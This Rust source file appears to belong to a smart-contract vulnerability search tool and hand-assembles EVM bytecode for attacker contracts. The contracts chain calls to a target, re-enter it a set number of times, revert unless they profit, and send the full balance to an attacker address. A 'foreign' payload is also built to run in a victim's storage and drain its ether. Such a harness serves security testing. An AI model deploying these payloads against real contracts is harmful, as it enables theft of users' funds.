//! The attacker's contracts, assembled by hand.
//!
//! What an agent's code does, in words; `@name` is a place in it:
//!
//! ```text
//!            caller() == CONTRACT ? jump @react
//!            ; somebody sets it to work: each call in turn, all or nothing
//!            codecopy(0, @data1, length1)
//!            call(gas(), CONTRACT, value1, 0, length1, 0, 0) ? : jump @fail
//!            ...
//!            ; only where it plays a game: selfbalance() > callvalue() ? : jump @fail
//!            call(gas(), ATTACKER, selfbalance(), 0, 0, 0, 0)
//!            stop()
//! @fail:     revert(0, 0)
//! @react:    ; the contract calls: one of
//!            stop()
//!            revert(0, 0)
//!            sload(0) < TIMES ? : stop()
//!            sstore(0, sload(0) + 1); codecopy(0, @dataN, lengthN)
//!            call(gas(), CONTRACT, 0, 0, lengthN, 0, 0); stop()
//! ```

use scorpius_evm::{Address, U256};

use crate::stage::{ATTACKER, CONTRACT};

const STOP: u8 = 0x00;
const ADD: u8 = 0x01;
const LT: u8 = 0x10;
const GT: u8 = 0x11;
const EQ: u8 = 0x14;
const ISZERO: u8 = 0x15;
const CALLER: u8 = 0x33;
const CALLVALUE: u8 = 0x34;
const CALLDATASIZE: u8 = 0x36;
const CALLDATACOPY: u8 = 0x37;
const CODECOPY: u8 = 0x39;
const SELFBALANCE: u8 = 0x47;
const POP: u8 = 0x50;
const MSTORE: u8 = 0x52;
const SLOAD: u8 = 0x54;
const SSTORE: u8 = 0x55;
const JUMPI: u8 = 0x57;
const GAS: u8 = 0x5a;
const JUMPDEST: u8 = 0x5b;
const PUSH0: u8 = 0x5f;
const PUSH1: u8 = 0x60;
const PUSH2: u8 = 0x61;
const PUSH20: u8 = 0x73;
const PUSH32: u8 = 0x7f;
const CALL: u8 = 0xf1;
const RETURN: u8 = 0xf3;
const REVERT: u8 = 0xfd;

/// What foreign code leaves in the storage of a contract that runs it: ASCII, as place and as word.
pub(crate) const MARK: U256 = U256::from_be_bytes(*b"scorpius: foreign code ran here ");

/// One call to the contract.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Call {
    pub(crate) value: U256,
    pub(crate) data: Vec<u8>,
}

/// What the agent does when the contract calls it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Reaction {
    /// Takes what comes.
    Accept,
    /// Fails.
    Refuse,
    /// Makes the last call once more, this often.
    Reenter(u8),
}

/// Bytes with places that are filled in at the end.
#[derive(Default)]
struct Assembly {
    bytes: Vec<u8>,
    /// Where a place's number stands, and the place.
    open: Vec<(usize, usize)>,
    /// Where each place is.
    places: Vec<Option<usize>>,
}

impl Assembly {
    fn place(&mut self) -> usize {
        self.places.push(None);
        self.places.len() - 1
    }

    fn ops(&mut self, ops: &[u8]) -> &mut Self {
        self.bytes.extend(ops);
        self
    }

    fn push2(&mut self, number: usize) -> &mut Self {
        self.bytes.push(PUSH2);
        self.bytes.extend(u16::try_from(number).unwrap_or(u16::MAX).to_be_bytes());
        self
    }

    fn push_place(&mut self, place: usize) -> &mut Self {
        self.bytes.push(PUSH2);
        self.open.push((self.bytes.len(), place));
        self.bytes.extend([0, 0]);
        self
    }

    fn push_address(&mut self, address: Address) -> &mut Self {
        self.bytes.push(PUSH20);
        self.bytes.extend(address.as_slice());
        self
    }

    fn push_word(&mut self, word: U256) -> &mut Self {
        self.bytes.push(PUSH32);
        self.bytes.extend(word.to_be_bytes::<32>());
        self
    }

    fn here(&mut self, place: usize) -> &mut Self {
        let at = self.bytes.len();
        if let Some(place) = self.places.get_mut(place) {
            *place = Some(at);
        }
        self
    }

    /// Calls the contract with what is at `data`.
    fn call(&mut self, value: U256, data: usize, length: usize) -> &mut Self {
        self.push2(length).push_place(data).ops(&[PUSH0, CODECOPY]);
        self.ops(&[PUSH0, PUSH0]).push2(length).ops(&[PUSH0]);
        self.push_word(value).push_address(CONTRACT).ops(&[GAS, CALL])
    }

    /// Gives all ether of whoever runs this to the attacker.
    fn pay_out(&mut self) -> &mut Self {
        self.ops(&[PUSH0, PUSH0, PUSH0, PUSH0, SELFBALANCE]).push_address(ATTACKER).ops(&[GAS, CALL, POP])
    }

    fn finished(mut self) -> Vec<u8> {
        for (at, place) in self.open {
            let number = self.places.get(place).copied().flatten().unwrap_or_default();
            let number = u16::try_from(number).unwrap_or(u16::MAX).to_be_bytes();
            for (to, from) in self.bytes.iter_mut().skip(at).zip(number) {
                *to = from;
            }
        }
        self.bytes
    }
}

/// The code of an agent; see above. `only_if_won` has it take everything back unless it gains.
pub(crate) fn code(calls: &[Call], reaction: Reaction, only_if_won: bool) -> Vec<u8> {
    let mut it = Assembly::default();
    let (react, fail, quiet) = (it.place(), it.place(), it.place());
    let data: Vec<usize> = calls.iter().map(|_| it.place()).collect();
    it.ops(&[CALLER]).push_address(CONTRACT).ops(&[EQ]).push_place(react).ops(&[JUMPI]);
    for (call, &at) in calls.iter().zip(&data) {
        it.call(call.value, at, call.data.len()).ops(&[ISZERO]).push_place(fail).ops(&[JUMPI]);
    }
    if only_if_won {
        it.ops(&[CALLVALUE, SELFBALANCE, GT, ISZERO]).push_place(fail).ops(&[JUMPI]);
    }
    it.pay_out().ops(&[STOP]);
    it.here(fail).ops(&[JUMPDEST, PUSH0, PUSH0, REVERT]);
    it.here(react).ops(&[JUMPDEST]);
    match (reaction, calls.last(), data.last()) {
        (Reaction::Reenter(times), Some(call), Some(&at)) => {
            it.ops(&[PUSH1, times, PUSH0, SLOAD, LT, ISZERO]).push_place(quiet).ops(&[JUMPI]);
            it.ops(&[PUSH0, SLOAD, PUSH1, 1, ADD, PUSH0, SSTORE]);
            it.call(U256::ZERO, at, call.data.len()).ops(&[POP]);
        }
        (Reaction::Refuse, ..) => {
            it.ops(&[PUSH0, PUSH0, REVERT]);
        }
        _ => {}
    }
    it.here(quiet).ops(&[JUMPDEST, STOP]);
    for (call, &at) in calls.iter().zip(&data) {
        it.here(at).ops(&call.data);
    }
    it.finished()
}

/// Code that hands on whatever it is called with, and takes what the contract pays: an agent during the search.
pub(crate) fn forwarder() -> Vec<u8> {
    let mut it = Assembly::default();
    let quiet = it.place();
    it.ops(&[CALLER]).push_address(CONTRACT).ops(&[EQ]).push_place(quiet).ops(&[JUMPI]);
    it.ops(&[CALLDATASIZE, PUSH0, PUSH0, CALLDATACOPY]);
    it.ops(&[PUSH0, PUSH0, CALLDATASIZE, PUSH0, CALLVALUE]).push_address(CONTRACT).ops(&[GAS, CALL]);
    it.push_place(quiet).ops(&[JUMPI, PUSH0, PUSH0, REVERT]);
    it.here(quiet).ops(&[JUMPDEST, STOP]);
    it.finished()
}

/// Code for a contract to run on its own storage: leaves a mark and gives all ether away.
///
/// ```text
/// sstore(MARK, MARK)
/// call(gas(), ATTACKER, selfbalance(), 0, 0, 0, 0)
/// ; some want to hear that it went well
/// mstore(0, 1); return(0, 32)
/// ```
pub(crate) fn foreign() -> Vec<u8> {
    let mut it = Assembly::default();
    it.push_word(MARK).push_word(MARK).ops(&[SSTORE]);
    it.pay_out().ops(&[PUSH1, 1, PUSH0, MSTORE, PUSH1, 32, PUSH0, RETURN]);
    it.finished()
}

/// Creation code for `code`: `codecopy(0, @code, length); return(0, length)`.
pub(crate) fn creation(code: &[u8]) -> Vec<u8> {
    let mut it = Assembly::default();
    let at = it.place();
    it.push2(code.len()).push_place(at).ops(&[PUSH0, CODECOPY]);
    it.push2(code.len()).ops(&[PUSH0, RETURN]);
    it.here(at).ops(code);
    it.finished()
}
